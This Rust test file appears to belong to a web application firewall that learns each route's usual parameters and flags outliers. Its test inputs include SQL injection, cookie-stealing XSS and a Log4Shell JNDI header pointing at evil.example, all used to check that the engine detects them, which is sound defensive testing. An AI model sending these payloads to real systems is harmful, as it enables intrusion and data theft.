//! What routes are used to, as evidence: learned from their traffic, acted upon with findings only.

use std::net::{IpAddr, Ipv4Addr};
use threat_agent_engine::memory::{Memory, Place, MAX_PLACES};
use threat_agent_engine::profile::SavedProfiles;
use threat_agent_engine::signal::Id;
use threat_agent_engine::{
    Analyst, Body, Category, Config, Engine, Identity, LocalState, Method, Outcome, Request,
    Verdict,
};

/// Units: milliseconds.
const HOUR_MS: u64 = 3_600_000;
const START_S: u64 = 1_790_000_000;

/// A gateway with one engine, one leader and a clock.
struct Gateway {
    engine: Engine,
    memory: LocalState,
    analyst: Analyst,
    now_ms: u64,
}

impl Gateway {
    fn new() -> Gateway {
        Gateway::with(r#"{"min_senders": 10, "min_minutes": 60}"#)
    }

    fn with(positive_model: &str) -> Gateway {
        Gateway::of(&format!(r#"{{"positive_model": {positive_model}}}"#))
    }

    fn of(payload: &str) -> Gateway {
        let json = format!(r#"{{"mode": "enforce", "payload": {payload}}}"#);
        let config = Config::from_json(json.as_bytes()).unwrap();
        Gateway {
            engine: Engine::new(config).unwrap(),
            memory: LocalState::default(),
            analyst: Analyst::new(),
            now_ms: HOUR_MS,
        }
    }

    fn ask(&self, client: u32, query: &str, body: &str) -> Verdict {
        self.ask_with(client, "", query, body)
    }

    fn ask_with(&self, client: u32, headers: &str, query: &str, body: &str) -> Verdict {
        let headers = format!("Content-Type: application/json\r\n{headers}");
        let request = Request {
            identity: Identity {
                client: Some(IpAddr::V4(Ipv4Addr::from(0x0a00_0000 + client))),
                workspace: b"default",
                route: b"orders",
                service: b"shop",
                ..Identity::default()
            },
            method: b"POST",
            path: b"/orders",
            query: query.as_bytes(),
            headers: headers.as_bytes(),
            body: Body {
                bytes: body.as_bytes(),
                ..Body::default()
            },
            ..Request::default()
        };
        self.engine.inspect(&request, &self.memory, self.now_ms)
    }

    fn tick(&mut self, later_ms: u64) {
        self.now_ms += later_ms;
        let wall_s = START_S + self.now_ms / 1_000;
        self.analyst.tick(&self.memory, self.now_ms, wall_s);
    }

    /// Lets `clients` send the same, three times within three hours.
    fn teach(&mut self, clients: u32, query: &str, body: &str) {
        for _ in 0..3 {
            for client in 0..clients {
                self.ask(client, query, body);
            }
            self.tick(1_000);
            self.tick(HOUR_MS);
        }
    }
}

const SQL: &str = "sql=price+>+10+and+name+like+'shoe'+or+1=1";

#[test]
fn an_odd_value_is_told_with_its_reason_and_not_refused() {
    let mut gateway = Gateway::new();
    gateway.teach(40, "id=4711", "");
    let verdict = gateway.ask(99, "id=O'Brien+(jr)", "");
    assert!(!verdict.action.refuses());
    assert_eq!(verdict.category, Some(Category::PayloadOutlier));
    assert_eq!(verdict.rules, ["outlier.parameter"]);
    let reason = &verdict.reason;
    assert!(
        reason.starts_with("query.id has been an integer with 40 senders; here a text"),
        "{reason}"
    );
    assert!(gateway.ask(99, "id=4712", "").rules.is_empty());
}

#[test]
fn what_was_never_learned_changes_nothing() {
    let taught = Gateway::new();
    let untaught = Gateway::with(r#"{"enabled": false}"#);
    for query in ["id=1'+OR+'a'='a", SQL, "q=O'Brien", "id=7"] {
        let (a, b) = (taught.ask(1, query, ""), untaught.ask(1, query, ""));
        assert_eq!((a.score, a.rules, a.reason), (b.score, b.rules, b.reason));
    }
}

#[test]
fn a_finding_is_stronger_where_the_parameter_never_had_the_like() {
    let mut gateway = Gateway::new();
    let weak = "id=1+or+2+like+2";
    let before = gateway.ask(99, weak, "").score;
    gateway.teach(64, "id=4711", "");
    let verdict = gateway.ask(99, weak, "");
    assert!(verdict.score >= before, "{before} to {}", verdict.score);
    let attack = gateway.ask(98, "id=1'+UNION+SELECT+password+FROM+users--", "");
    assert!(attack.action.refuses());
    assert!(
        attack.reason.contains("; query.id has been an integer"),
        "{}",
        attack.reason
    );
}

#[test]
fn a_route_that_is_used_to_sql_stops_alarming_on_it() {
    let mut gateway = Gateway::new();
    let cold = gateway.ask(99, SQL, "");
    assert_eq!(cold.category, Some(Category::PayloadInjection), "{cold:?}");
    gateway.teach(30, SQL, "");
    let warm = gateway.ask(99, SQL, "");
    assert!(
        warm.score < 0.5 * cold.score && !warm.action.refuses(),
        "{} to {}: {}",
        cold.score,
        warm.score,
        warm.reason
    );
    // Another parameter of the route is not.
    let other = gateway.ask(98, &SQL.replace("sql=", "id="), "");
    assert!(other.score >= cold.score, "{}", other.reason);
    // Nor is this one used to scripts.
    let script = gateway.ask(98, "sql=<script>alert(document.cookie)</script>", "");
    assert!(script.action.refuses(), "{script:?}");
}

/// One client, however loud, makes neither its attacks usual nor what others send odd.
#[test]
fn one_client_teaches_nothing() {
    let mut gateway = Gateway::new();
    for _ in 0..50 {
        for _ in 0..20 {
            gateway.ask(1, SQL, "");
            gateway.ask(1, "id=4711", "");
        }
        gateway.tick(HOUR_MS);
    }
    assert!(gateway.ask(99, SQL, "").score > 0.5);
    assert!(gateway.ask(99, "id=O'Brien+(jr)", "").rules.is_empty());
}

#[test]
fn a_name_that_a_route_never_had_is_told() {
    let mut gateway = Gateway::new();
    gateway.teach(40, "id=4711", "");
    let verdict = gateway.ask(99, "id=1&cmd=O'Brien+(jr)", "");
    assert!(
        verdict.reason.contains("query.cmd is no parameter"),
        "{}",
        verdict.reason
    );
}

/// One partner may be the only one who sends a field.
#[test]
fn a_name_that_one_sender_keeps_using_is_not_told_as_new() {
    let mut gateway = Gateway::new();
    gateway.teach(64, "id=1", "");
    let odd = r#"{"memo": "O'Brien (jr)"}"#;
    let before = gateway.ask(7, "id=1", odd);
    assert!(before.reason.contains("json.memo is no parameter"));
    for _ in 0..3 {
        gateway.ask(7, "id=1", r#"{"memo": "plain text"}"#);
        gateway.tick(1_000);
        gateway.tick(HOUR_MS);
    }
    let after = gateway.ask(7, "id=1", odd);
    assert!(after.rules.is_empty(), "{after:?}");
}

#[test]
fn a_request_of_another_size_is_told_and_repeated_ones_are_an_incident() {
    let mut gateway = Gateway::new();
    let body = r#"{"name": "x", "count": 3, "tags": ["a", "b"]}"#;
    gateway.teach(40, "", body);
    let many: Vec<String> = (0..4_000).map(|n| format!("\"k{n}\":\"v\"")).collect();
    let many = format!("{{{}}}", many.join(","));
    let verdict = gateway.ask(99, "", &many);
    assert_eq!(verdict.rules, ["outlier.request"], "{}", verdict.reason);
    assert!(
        verdict.reason.contains("values, where at most"),
        "{}",
        verdict.reason
    );
    for client in 100..120 {
        gateway.ask(client, "", &many);
    }
    gateway.tick(1_000);
    let incident = gateway.analyst.incidents().next().unwrap();
    assert_eq!(incident.category, Category::PayloadOutlier);
    assert!(incident.title.contains("sent odd requests to route orders"));
}

#[test]
fn json_numbers_are_learned_as_no_strings() {
    let mut gateway = Gateway::new();
    gateway.teach(40, "", r#"{"user": {"id": 7, "name": "ada"}}"#);
    let verdict = gateway.ask(99, "", r#"{"user": {"id": "7; (x)", "name": "ada"}}"#);
    assert!(
        verdict
            .reason
            .starts_with("json.user.id has been no string with 40 senders"),
        "{}",
        verdict.reason
    );
}

/// Fields of a form are parameters of their own, however browsers spell their brackets.
#[test]
fn fields_in_brackets_are_told_apart() {
    let mut gateway = Gateway::new();
    let script = "post%5Bcontent%5D=<script>alert(document.cookie)</script>";
    gateway.teach(30, script, "");
    gateway.teach(30, "user%5Bpassword%5D=word", "");
    assert!(!gateway.ask(99, script, "").action.refuses());
    for field in ["user%5Bpassword%5D", "user[password]", "filter%5Bstatus%5D"] {
        let verdict = gateway.ask(
            98,
            &format!("{field}=<script>alert(document.cookie)</script>"),
            "",
        );
        assert!(verdict.action.refuses(), "{field}: {}", verdict.reason);
    }
    let verdict = gateway.ask(99, "user[password]=O'Brien+(jr)", "");
    assert!(
        verdict.reason.contains("has been a word with 30"),
        "{}",
        verdict.reason
    );
}

/// All values of a request have their turn, whatever stands before them.
#[test]
fn no_value_comes_too_late_to_be_learned() {
    let mut gateway = Gateway::new();
    let item = r#"{"sku": "a", "size": "b", "colour": "c", "note": "d"}"#;
    let list = |note: &str| {
        format!(
            r#"{{"items": [{}], "note": "{note}"}}"#,
            [item; 20].join(",")
        )
    };
    let fields: Vec<String> = (0..60).map(|nth| format!("field_{nth}=word")).collect();
    let query = fields.join("&");
    gateway.teach(40, &query, &list("a gift"));
    let verdict = gateway.ask(99, "", &list("it's (really) a gift"));
    assert!(
        !verdict.reason.contains("is no parameter"),
        "{}",
        verdict.reason
    );
    for field in ["field_0", "field_59"] {
        let odd = gateway.ask(99, &format!("{field}=O'Brien+(jr)"), "");
        assert!(
            odd.reason.contains("has been a word"),
            "{field}: {}",
            odd.reason
        );
    }
}

/// What comes with a finding anywhere is no example of what is usual.
#[test]
fn requests_with_findings_elsewhere_teach_nothing() {
    let mut gateway = Gateway::new();
    gateway.teach(40, "id=4711", "");
    let odd = "id=O'Brien+(jr)";
    for _ in 0..3 {
        for client in 100..160 {
            let attack = "X-Api-Version: ${jndi:ldap://evil.example/a}\r\n";
            assert!(gateway.ask_with(client, attack, odd, "").action.refuses());
        }
        gateway.tick(HOUR_MS);
    }
    let verdict = gateway.ask(99, odd, "");
    assert!(
        verdict.reason.contains("has been an integer"),
        "{verdict:?}"
    );
}

/// Routes that found no number of their own are not learned as one.
#[test]
fn routes_beyond_the_directory_are_not_sampled() {
    let gateway = Gateway::new();
    for nth in 0..MAX_PLACES {
        gateway.memory.place(&Place {
            route: Id::new(format!("route {nth}").as_bytes()),
            ..Place::default()
        });
    }
    gateway.ask(1, "id=4711", "");
    let mut notes = 0;
    gateway.memory.drain_notes(0, &mut |_| notes += 1);
    assert_eq!(notes, 0);
}

#[test]
fn it_can_be_switched_off() {
    let mut gateway = Gateway::with(r#"{"enabled": false}"#);
    gateway.teach(40, "id=4711", "");
    assert!(gateway.ask(99, "id=O'Brien+(jr)", "").rules.is_empty());
}

const SPEC: &str = r#"{"openapi": "3.0.3", "paths": {
    "/orders": {"post": {"parameters": [
        {"name": "id", "in": "query", "schema": {"type": "integer"}},
        {"name": "q", "in": "query", "schema": {"type": "string"}}]}},
    "/old": {"get": {"deprecated": true}}}}"#;

fn documented() -> Gateway {
    let quoted = serde_json::to_string(SPEC).unwrap();
    Gateway::of(&format!(r#"{{"api_spec": {quoted}}}"#))
}

#[test]
fn a_document_counts_from_the_first_request_on() {
    let gateway = documented();
    for (query, want) in [
        (
            "id=O'Brien+(jr)",
            Some("query.id has been an integer by the API's document"),
        ),
        (
            "debug=O'Brien+(jr)",
            Some("query.debug is no parameter of the operation in the API's document"),
        ),
        ("q=O'Brien+(jr)", None),
        ("id=7", None),
    ] {
        let verdict = gateway.ask(1, query, "");
        assert_eq!(verdict.rules.is_empty(), want.is_none(), "{query}");
        assert!(
            verdict.reason.starts_with(want.unwrap_or("")),
            "{}",
            verdict.reason
        );
    }
}

#[test]
fn operations_are_held_against_the_document() {
    let mut gateway = documented();
    let identity = |client: u32| Identity {
        client: Some(IpAddr::V4(Ipv4Addr::from(0x0a00_0000 + client))),
        workspace: b"default",
        route: b"orders",
        service: b"shop",
        ..Identity::default()
    };
    for client in 0..20 {
        for (path, status) in [("/old", 200), ("/hidden/7", 200), ("/gone", 404)] {
            let outcome = Outcome {
                status,
                method: Method::Get,
                ..Outcome::default()
            };
            let (memory, now_ms) = (&gateway.memory, gateway.now_ms);
            let identity = identity(client);
            gateway
                .engine
                .observe(&identity, path.as_bytes(), &outcome, memory, now_ms);
        }
    }
    gateway.tick(1_000);
    let saved = SavedProfiles::read(&gateway.analyst.profiles.export()).unwrap();
    let all = saved.routes[0].operations.iter();
    let told: Vec<(&str, bool, bool)> = all
        .map(|o| (&*o.name, o.operation.documented, o.operation.deprecated))
        .collect();
    assert_eq!(
        told,
        [("GET /hidden/{id}", false, false), ("GET /old", true, true)]
    );
}
